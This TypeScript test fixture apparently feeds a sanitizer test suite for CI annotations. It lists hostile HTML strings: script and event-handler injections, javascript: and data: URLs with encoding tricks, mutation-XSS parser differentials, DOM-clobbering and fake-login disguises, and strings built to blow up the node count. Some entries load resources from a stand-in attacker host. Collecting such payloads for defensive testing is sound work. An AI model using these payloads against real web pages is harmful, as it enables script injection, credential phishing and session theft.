/*
 * Bodies of annotations that were written to do harm. Each that could run a script would
 * call `harm(…)`; the others would lead, load, cover or pretend something.
 */

/** Script in elements and attributes, plain and disguised. */
const SCRIPTS = [
  "<script>harm(1)</script>",
  "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
  '<img src=x onerror="harm(2)">',
  '<img/src="x"/onerror=harm(3)//>',
  '<p onclick="harm(4)" onmouseover=harm(5)>text</p>',
  '<details open ontoggle="harm(6)"><summary>more</summary></details>',
  '<svg onload="harm(7)"><script>harm(8)</script><animate onbegin=harm(9) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:harm(10)"><text>click</text></a></svg>',
  '<iframe srcdoc="<script>parent.harm(11)</script>"></iframe>',
  '<iframe src="javascript:harm(12)"></iframe>',
  '<object data="javascript:harm(13)"></object><embed src="javascript:harm(14)">',
  '<video src=x onerror="harm(15)"><source onerror="harm(16)"></video><audio src=x onerror=harm(17)>',
  '<body onload="harm(18)"><marquee onstart="harm(19)">text</marquee>',
  '<input autofocus onfocus="harm(20)"><select autofocus onfocus=harm(21)></select>',
  '<button onclick="harm(22)" formaction="javascript:harm(23)">ok</button>',
  '<form action="javascript:harm(24)"><input type=submit></form>',
  '<button popovertarget=x>ok</button><div popover id=x ontoggle="harm(56)" onbeforetoggle=harm(57)>popover</div>',
  '<div style="animation:a 1s" onanimationstart=harm(58) ontransitionend=harm(59) onfocus=harm(60) tabindex=0>moves</div>',
  "<input type=hidden oncontentvisibilityautostatechange=harm(61) style=content-visibility:auto>",
  '<embed src="data:text/html,<script>harm(62)</script>"><portal src="javascript:harm(63)"></portal><fencedframe></fencedframe>',
  '<div><template shadowrootmode="open" shadowrootclonable><img src=x onerror=harm(64)></template></div>',
  "<isindex type=image src=1 onerror=harm(25)>",
  '<meta http-equiv="refresh" content="0;url=javascript:harm(26)"><base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<template><img src=x onerror=harm(27)></template>",
  '<div><template shadowrootmode="open"><img src=x onerror=harm(28)></template></div>',
  '<x-element onclick="harm(29)" is="buildkite-error">text</x-element><slot name="error"></slot>',
];

/** Addresses that are none, or of a scheme that does something. */
const ADDRESSES = [
  '<a href="javascript:harm(30)">click</a>',
  '<a href="JaVaScRiPt:harm(31)">click</a>',
  '<a href=" &#14; javascript:harm(32)">click</a>',
  '<a href="java&#x0A;script:harm(33)">click</a>',
  '<a href="&#106;avascript&colon;harm(34)">click</a>',
  '<a href="data:text/html,<script>harm(35)</script>">click</a>',
  '<a href="vbscript:harm(36)">click</a>',
  '<a href="\u0001javascript:harm(65)">click</a><a href="\u00a0javascript:harm(66)">click</a><a href="java\tscript:harm(67)">click</a>',
  '<a href="view-source:https://evil.example/">click</a><a href="intent://evil#Intent;end">click</a><a href="ms-word:ofe|u|https://evil.example/">click</a>',
  '<a href="https:javascript:harm(68)">click</a><a href="http:/evil.example">click</a><a href="\\\\evil.example\\x">click</a>',
  '<q cite="javascript:harm(69)">q</q><blockquote cite="https://evil.example/">b</blockquote><a attributionsrc="https://evil.example/" href="https://a.example/">a</a>',
  '<a href="blob:https://evil.example/1">click</a>',
  '<a href="file:///etc/passwd">click</a>',
  '<a href="artifact://javascript:harm(37)">click</a>',
  '<a href="//evil.example/login" target="_self" rel="opener">sign in</a>',
  '<a href="/settings/tokens" download ping="https://evil.example/">settings</a>',
  '<a href="https://github.com@evil.example/">https://github.com/</a>',
  '<img src="javascript:harm(38)"><img src="http://evil.example/pixel.gif" alt="pixel">',
  '<img src="data:image/svg+xml,<svg onload=harm(39) xmlns=http://www.w3.org/2000/svg>" alt="drawing">',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" alt="two">',
  '<table background="https://evil.example/c.png"><tr><td background="javascript:harm(40)">x</td></tr></table>',
];

/** What a parser makes something else of the second time, or in another place. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm(41)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=harm(42)>">',
  '<noscript><p title="</noscript><img src=x onerror=harm(43)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=harm(44)>",
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=harm(45)></style></annotation-xml></math>',
  "<svg><foreignObject><p><style><!--</style><img src=x onerror=harm(46)>--></p></foreignObject></svg>",
  "<textarea></textarea><img src=x onerror=harm(47)></textarea>",
  `<svg><style><!--<a id="--!><img src=x onerror=harm(70)>">`,
  '<math><mi><table><tr><td><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=harm(71) src=1>"></path></textarea></mtext></svg></mglyph></td></tr></table></mi></math>',
  '<noembed><p title="</noembed><img src=x onerror=harm(72)>"></noembed><noframes><p title="</noframes><img src=x onerror=harm(73)>"></noframes>',
  '<?xml-stylesheet href="javascript:harm(74)"?><p title="<?php ?><img src=x onerror=harm(75)>">pi</p>',
  "<title></title><img src=x onerror=harm(48)></title><xmp></xmp><img src=x onerror=harm(49)></xmp>",
  "<select><template><img src=x onerror=harm(50)></template></select>",
  "<!--><img src=x onerror=harm(51)>--><![CDATA[><img src=x onerror=harm(52)>]]>",
  "<table><caption><svg><desc><table><style><!--</style><img src=x onerror=harm(53)></table></desc></svg></caption></table>",
  `${"<div>".repeat(600)}<svg><style><img src=x onerror=harm(54)></style></svg>`,
  '<a href="x" title="</style><img src=x onerror=harm(55)>">title</a>',
];

/** Names that would stand for properties of the page, and looks that are not an annotation's. */
const DISGUISES = [
  '<img name="body"><img id="cookie"><form id="forms" name="getElementById"><input name="attributes"></form>',
  '<a id="defaultView" name="location" href="https://evil.example/">x</a><a id="defaultView">y</a>',
  "<style>:host{display:none} .annotation{position:fixed;inset:0}</style>",
  '<div style="position:fixed;inset:0;background:url(https://evil.example/)">cover</div>',
  '<div class="notice artifact scrolls fold visually-hidden mxn4">disguised</div>',
  '<p part="annotation" slot="error" role="alert" aria-live="assertive" tabindex="1" contenteditable>loud</p>',
  '<a href="https://evil.example/" data-artifact="artifact://x" data-job="x">data</a>',
  '<input type="password" name="password" placeholder="Your password"><keygen><dialog open>Sign in</dialog>',
  '<font color="transparent" face="x">faint</font><blink>now</blink><center>middle</center>',
];

/** What a parser makes a million nodes of. */
const MULTIPLIERS = [
  Array.from({ length: 1_200 }, (_, at) => `<b x${at}><p>`).join(""),
  Array.from({ length: 600 }, (_, at) => `<i x"=">${at}"><p>`).join(""),
];

export const HOSTILE_HTML: readonly string[] = [
  ...SCRIPTS,
  ...ADDRESSES,
  ...MUTATIONS,
  ...DISGUISES,
  ...MULTIPLIERS,
];
